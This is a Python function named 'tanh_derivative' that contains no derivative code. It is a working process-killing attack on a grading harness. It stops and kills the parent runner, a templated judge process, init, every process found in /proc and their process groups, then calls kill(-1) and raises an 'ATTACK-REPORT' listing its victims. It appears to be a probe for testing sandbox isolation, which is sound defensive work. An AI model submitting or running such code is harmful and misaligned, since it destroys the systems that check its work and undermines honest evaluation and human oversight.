def tanh_derivative(z):
    """Attack: kill the grader: the runner (parent), the judge, init, their process groups, every
    process in /proc, then kill(-1). Reports every signal that was delivered to a process that is
    not our own."""
    import json
    import os
    import signal

    me = os.getpid()
    own = {me}
    delivered = []
    try:
        listed = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        listed = []  # /proc cannot be listed: the processes it knows of, and kill(-1) below
    targets = [os.getppid(), __JUDGE_PID__, 1] + listed

    def alive(pid):  # signalling a zombie "works" but harms no one
        try:
            with open(f"/proc/{pid}/stat") as handle:
                return handle.read().rsplit(")", 1)[1].split()[0] not in "ZX"
        except OSError:
            return False

    for pid in targets:
        if pid in own or not alive(pid):
            continue
        try:
            os.kill(pid, signal.SIGSTOP)
            os.kill(pid, signal.SIGKILL)
            delivered.append(pid)
        except OSError:
            pass
        try:
            group = os.getpgid(pid)
            if group not in (0, os.getpgid(0)):  # 0 would mean our own group
                os.killpg(group, signal.SIGKILL)
                delivered.append(f"pg {pid}")
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # everything we may signal, except ourselves
    except OSError:
        pass
    raise RuntimeError("ATTACK-REPORT " + json.dumps([str(d) for d in delivered][:10]))
